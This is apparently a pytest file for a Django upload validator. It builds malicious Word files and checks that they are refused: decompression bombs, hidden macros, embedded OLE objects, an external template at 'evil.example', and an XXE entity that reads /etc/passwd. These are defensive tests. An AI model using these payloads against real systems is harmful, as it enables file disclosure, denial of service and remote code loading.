"""Uploaded Office files are bounded and inspected before anything parses them."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from docx import Document
from openpyxl import Workbook

from fazhi.core import uploads
from fazhi.core.uploads import DOCX, XLSX, docx_paragraphs_check, ooxml_check

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
REL = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def word_file(**extra_parts) -> bytes:
    """A real .docx (python-docx) with extra parts added or replaced."""
    source = io.BytesIO()
    Document().save(source)
    output = io.BytesIO()
    with (
        zipfile.ZipFile(source) as original,
        zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as copy,
    ):
        for info in original.infolist():
            if info.filename not in extra_parts:
                copy.writestr(info, original.read(info))
        for name, data in extra_parts.items():
            copy.writestr(name, data)
    return output.getvalue()


def _content_types(extra: str) -> str:
    source = io.BytesIO(word_file())
    with zipfile.ZipFile(source) as archive:
        text = archive.read("[Content_Types].xml").decode()
    return text.replace("</Types>", extra + "</Types>")


def _document_rels(extra: str) -> str:
    source = io.BytesIO(word_file())
    with zipfile.ZipFile(source) as archive:
        text = archive.read("word/_rels/document.xml.rels").decode()
    return text.replace("</Relationships>", extra + "</Relationships>")


def _refusal(data: bytes, **kwargs) -> str:
    with pytest.raises(ValidationError) as error:
        ooxml_check(data, field_label="附件", **kwargs)
    return error.value.messages[0]


def test_it_accepts_a_plain_word_file_and_a_plain_workbook():
    assert ooxml_check(word_file(), expected=DOCX).content_type == DOCX
    workbook = io.BytesIO()
    Workbook().save(workbook)
    assert ooxml_check(workbook.getvalue(), expected=XLSX).content_type == XLSX


def test_it_refuses_a_paragraph_bomb_before_parsing_it():
    body = f"<w:document {W}><w:body>" + "<w:p/>" * 5_000_000 + "</w:body></w:document>"
    bomb = word_file(**{"word/document.xml": body})
    assert len(bomb) < 200_000
    message = _refusal(bomb)
    assert message.startswith("附件：") and "压缩比超过 100 倍" in message


def test_it_refuses_a_whitespace_bomb(monkeypatch):
    monkeypatch.setattr(uploads, "MAX_PART_BYTES", 32 * 1024 * 1024)
    bomb = word_file(**{"word/document.xml": " " * (40 * 1024 * 1024)})
    assert "超过单个部件上限" in _refusal(bomb)


def test_it_refuses_too_many_parts():
    parts = {f"word/media/p{n}.xml": "x" for n in range(uploads.MAX_MEMBERS + 1)}
    assert "超过上限 1000 个" in _refusal(word_file(**parts))


def test_it_refuses_too_much_in_all(monkeypatch):
    monkeypatch.setattr(uploads, "MAX_TOTAL_BYTES", 10_000)
    assert "解压后共" in _refusal(word_file(**{"word/media/a.bin": "ab" * 6000}))


@pytest.mark.parametrize("cut", [10, 200, 2000])
def test_a_truncated_file_is_the_uploaders_error(cut):
    assert "文件已损坏" in _refusal(word_file()[:-cut])


def test_it_counts_paragraphs_by_streaming_and_names_the_limit():
    body = (
        f"<w:document {W}><w:body>"
        + "<w:p><w:r><w:t>段</w:t></w:r></w:p>" * 30
        + "</w:body></w:document>"
    )
    data = word_file(**{"word/document.xml": body})
    assert docx_paragraphs_check(data) == 30
    with pytest.raises(ValidationError) as error:
        docx_paragraphs_check(data, field_label="模板文件", limit=20)
    assert error.value.messages[0] == "模板文件：文件段落数超过上限 20 段，不予接收。"


def test_broken_xml_is_the_uploaders_error():
    data = word_file(**{"word/document.xml": "<w:document><w:body><w:p>"})
    with pytest.raises(ValidationError) as error:
        docx_paragraphs_check(data)
    assert "XML 无法解析" in error.value.messages[0]


def test_a_macro_under_any_name_is_refused_by_its_content_type():
    data = word_file(
        **{
            "[Content_Types].xml": _content_types(
                '<Override PartName="/word/innocent.dat" '
                'ContentType="application/vnd.ms-office.vbaProject"/>'
            ),
            "word/innocent.dat": b"not really a project",
        }
    )
    assert "宏代码" in _refusal(data)


def test_a_macro_is_refused_by_its_relationship():
    data = word_file(
        **{
            "word/_rels/document.xml.rels": _document_rels(
                '<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/'
                'relationships/vbaProject" Target="code.xml"/>'
            ),
            "word/code.xml": "<x/>",
        }
    )
    assert "宏代码" in _refusal(data)


def test_a_macro_enabled_main_document_is_refused():
    data = word_file(
        **{
            "[Content_Types].xml": _content_types("").replace(
                "wordprocessingml.document.main+xml",
                "../application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        }
    )
    assert "宏代码" in _refusal(data)


@pytest.mark.parametrize(
    "relationship",
    [
        f"{OFFICE_REL}/oleObject",
        f"{OFFICE_REL}/package",
        f"{OFFICE_REL}/control",
        "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary",
        f"{OFFICE_REL}/aFChunk",
    ],
)
def test_embedded_objects_are_refused_by_their_relationship(relationship):
    data = word_file(
        **{
            "word/_rels/document.xml.rels": _document_rels(
                f'<Relationship Id="rId99" Type="{relationship}" Target="stuff/thing.xml"/>'
            ),
            "word/stuff/thing.xml": "<x/>",
        }
    )
    assert "内嵌了其他对象" in _refusal(data)


def test_an_ole_compound_file_is_refused_whatever_it_is_called():
    data = word_file(**{"word/media/image9.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64})
    assert "内嵌了其他对象" in _refusal(data)


def test_an_embedded_ole_object_type_is_refused():
    data = word_file(
        **{
            "[Content_Types].xml": _content_types(
                '<Default Extension="ole" ContentType="application/vnd.openxmlformats-'
                'officedocument.oleObject"/>'
            ),
            "word/things/object1.ole": b"data",
        }
    )
    assert "内嵌了其他对象" in _refusal(data)


@pytest.mark.parametrize("kind", ["attachedTemplate", "externalLink", "frame", "subDocument"])
def test_external_templates_and_links_are_refused(kind):
    data = word_file(
        **{
            "word/_rels/settings.xml.rels": (
                f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{REL}">'
                f'<Relationship Id="rId1" Type="{OFFICE_REL}/{kind}" '
                'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
            )
        }
    )
    assert "外部模板或外部链接" in _refusal(data)


def test_an_external_hyperlink_is_fine():
    data = word_file(
        **{
            "word/_rels/document.xml.rels": _document_rels(
                f'<Relationship Id="rId99" Type="{OFFICE_REL}/hyperlink" '
                'Target="https://www.gov.cn/" TargetMode="External"/>'
            )
        }
    )
    assert ooxml_check(data, expected=DOCX).content_type == DOCX


def test_a_workbook_is_not_a_word_file():
    workbook = io.BytesIO()
    Workbook().save(workbook)
    assert "不是Word（.docx）文件" in _refusal(workbook.getvalue(), expected=DOCX)


def test_an_external_entity_in_a_package_part_is_refused_not_read():
    data = word_file(
        **{
            "[Content_Types].xml": (
                '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
                f'<Types xmlns="{CT}"><Default Extension="xml" ContentType="&e;"/></Types>'
            )
        }
    )
    message = _refusal(data)
    assert "文件已损坏" in message and "root:" not in message
